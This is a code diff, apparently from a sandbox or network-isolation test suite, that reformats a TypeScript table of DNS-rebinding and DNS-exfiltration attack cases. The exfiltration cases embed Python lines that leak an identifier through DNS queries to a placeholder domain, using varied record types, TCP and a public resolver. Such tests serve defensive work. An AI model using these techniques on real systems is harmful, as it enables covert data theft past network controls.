@@ -31,27 +31,40 @@ export const rebinding: AttackTable = {
     return list === undefined ? { [`leak-${id}.zone.example`]: ["127.99.0.1"] } : { [`${id}.zone.example`]: list };
   },
   attacks: [
-    ...Object.keys(answers).map(
-      (name): Attack => ({
-        ...rebound,
-        name,
-        python: name.includes("mind")
-          ? `
+    ...Object.keys(answers).map((name): Attack => ({
+      ...rebound,
+      name,
+      python: name.includes("mind")
+        ? `
 for turn in range(2):
     try: ${visit}
     except OSError as error: say(error)
     time.sleep(5.5)`
-          : visit,
-        ...(name.includes("mind") && { limit: 30_000, silent: true }),
-      }),
-    ),
+        : visit,
+      ...(name.includes("mind") && { limit: 30_000, silent: true }),
+    })),
     exfiltration("data in a question for an address", `dns("leak-" + ID + ".zone.example")`),
     exfiltration("data in a question for text", `dns("leak-" + ID + ".zone.example", "TXT")`),
-    exfiltration("data in a question for a service", `dns("leak-" + ID + ".zone.example", "SVCB"); dns("leak-" + ID + ".zone.example", "HTTPS")`),
-    exfiltration("data in questions of rare types", `[dns("leak-" + ID + ".zone.example", t, limit=1) for t in ("MX", "NULL", "ANY", "SRV", "CNAME")]`),
+    exfiltration(
+      "data in a question for a service",
+      `dns("leak-" + ID + ".zone.example", "SVCB"); dns("leak-" + ID + ".zone.example", "HTTPS")`,
+    ),
+    exfiltration(
+      "data in questions of rare types",
+      `[dns("leak-" + ID + ".zone.example", t, limit=1) for t in ("MX", "NULL", "ANY", "SRV", "CNAME")]`,
+    ),
     exfiltration("data in a question over TCP", `dns("leak-" + ID + ".zone.example", over="tcp", limit=2)`),
-    exfiltration("data in a question to a public name server", `dns("leak-" + ID + ".zone.example", server="8.8.8.8", limit=2)`),
-    exfiltration("data in a question to a public name server over TCP", `dns("leak-" + ID + ".zone.example", server="8.8.8.8", over="tcp", limit=2)`),
-    exfiltration("data in a question for the name of an address", `dns("leak-" + ID + ".1.0.99.127.in-addr.arpa", "PTR")`),
+    exfiltration(
+      "data in a question to a public name server",
+      `dns("leak-" + ID + ".zone.example", server="8.8.8.8", limit=2)`,
+    ),
+    exfiltration(
+      "data in a question to a public name server over TCP",
+      `dns("leak-" + ID + ".zone.example", server="8.8.8.8", over="tcp", limit=2)`,
+    ),
+    exfiltration(
+      "data in a question for the name of an address",
+      `dns("leak-" + ID + ".1.0.99.127.in-addr.arpa", "PTR")`,
+    ),
   ],
 };
